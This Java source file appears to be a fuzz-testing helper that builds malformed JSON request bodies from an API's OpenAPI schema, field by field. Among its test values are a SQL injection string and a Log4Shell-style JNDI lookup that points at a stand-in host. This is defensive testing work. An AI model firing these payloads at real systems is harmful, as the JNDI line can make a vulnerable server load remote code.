package live.griot.app.openapi;

import io.swagger.v3.oas.models.media.Schema;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.stream.Collectors;

/** Bodies that no decent client sends, made from what a call says it takes: each field in turn is what it must not be, and the others are harmless. */
final class HostileBodies {
    private static final List<String> WHOLE = List.of(
            "",
            "null",
            "true",
            "7",
            "\"text\"",
            "[]",
            "[[]]",
            "{",
            "}",
            "{}",
            "{\"nobody knows\": 1}",
            "{\"a\": 1, \"a\": 2}",
            "\u0000",
            "v=0\r\n",
            "[".repeat(5_000),
            "{\"a\":".repeat(5_000));

    private static final List<String> VALUES = List.of(
            "null",
            "true",
            "0",
            "-1",
            "1.5",
            "1e999",
            "99999999999999999999999999",
            "\"\"",
            "\" \"",
            "\"\\u0000\"",
            "\"\\ud800\"",
            "\"\\u200b\\u200b\"",
            "\"\\u202e\"",
            "\"P9999999999999999999D\"",
            "\"-PT1S\"",
            "\"+999999999-12-31T23:59:59Z\"",
            "\"' OR 1=1 --\"",
            "\"${jndi:ldap://other.example/x}\"",
            "\"" + "x".repeat(20_000) + "\"",
            "[]",
            "[null]",
            "[\"a\", 1, {}]",
            "{}",
            "{\"value\": \"x\"}");

    private final SchemaCheck schemas;

    HostileBodies(SchemaCheck schemas) {
        this.schemas = schemas;
    }

    /** Returns bodies for what is described so. */
    List<String> of(Schema<?> schema) {
        List<String> bodies = new ArrayList<>(WHOLE);
        Map<String, String> harmless = harmless(schemas.resolved(schema));
        bodies.add(text(harmless));
        for (String field : harmless.keySet()) {
            for (String value : VALUES) {
                Map<String, String> changed = new LinkedHashMap<>(harmless);
                changed.put(field, value);
                bodies.add(text(changed));
            }
            Map<String, String> without = new LinkedHashMap<>(harmless);
            without.remove(field);
            bodies.add(text(without));
        }
        return bodies;
    }

    private Map<String, String> harmless(Schema<?> schema) {
        Map<String, String> fields = new LinkedHashMap<>();
        if (schema.getProperties() != null) {
            schema.getProperties().forEach((name, field) -> fields.put(name, example(field)));
        }
        return fields;
    }

    private String example(Schema<?> field) {
        Schema<?> whole = schemas.resolved(
                field.getAnyOf() == null ? field : (Schema<?>) field.getAnyOf().getFirst());
        if (whole.getEnum() != null && !whole.getEnum().isEmpty()) {
            return "\"" + whole.getEnum().getFirst() + "\"";
        }
        String type = whole.getTypes() == null || whole.getTypes().isEmpty()
                ? "string"
                : whole.getTypes().iterator().next();
        return switch (type) {
            case "integer", "number" -> "3";
            case "boolean" -> "false";
            case "array" -> "[]";
            case "object" -> "{}";
            default -> "\"abcdefgh1\"";
        };
    }

    private static String text(Map<String, String> fields) {
        return fields.entrySet().stream()
                .map(field -> "\"%s\": %s".formatted(field.getKey(), field.getValue()))
                .collect(Collectors.joining(", ", "{", "}"));
    }
}
